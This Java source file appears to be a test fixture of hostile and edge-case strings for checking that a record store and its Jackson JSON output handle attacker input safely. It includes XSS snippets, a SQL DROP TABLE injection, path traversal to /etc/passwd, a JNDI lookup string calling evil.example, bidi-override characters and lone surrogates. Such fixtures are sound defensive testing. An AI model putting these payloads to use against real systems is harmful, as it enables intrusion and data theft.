package org.migkg.robust;

import java.util.List;

/** Names and texts an attacker or a careless editor might put in a record. */
final class Hostile {
    private Hostile() {}

    static final String SCRIPT = "<script>alert(1)</script>";

    /** Each is a legal Java string that Jackson can write as JSON. */
    static final List<String> NAMES = List.of(
            SCRIPT,
            "\"><img src=x onerror=alert(1)>",
            "Robert'); DROP TABLE events;--",
            "quote \" apostrophe ' backtick `",
            "back\\slash \\u0041 \\n",
            "line one\nline two\r\nline three",
            "tab\there",
            "\u202Eevil\u202C reversed",
            "\u200Fright-to-left mark \u05E9\u05DC\u05D5\u05DD",
            "zero\u200Dwidth\u200Bjoiner\uFEFF",
            "emoji \uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uD83C\uDDFA\uD83C\uDDF3",
            "<http://evil.example/> \"literal\"@en ; a <urn:x> .",
            "_:blank ?var $var {braces} |pipe| ^caret",
            "../../../../etc/passwd",
            "%2e%2e%2f%00",
            "${jndi:ldap://evil.example/a}",
            "]]> <!-- --> <![CDATA[",
            "Élke Lö\u0308bel (NFD) ß ø",
            "   leading and trailing   ");

    /** JSON text (escapes as written in a file) for strings that are refused: lone surrogates and control characters. */
    static final List<String> RAW_JSON_STRINGS = List.of(
            "\"\\ud800\"",
            "\"lone \\udc00 low\"",
            "\"\\ud83d\\ud83d twice high\"",
            "\"name\\u0000nul\"",
            "\"\\u0007bell and \\u001b[31mescape\"");
}
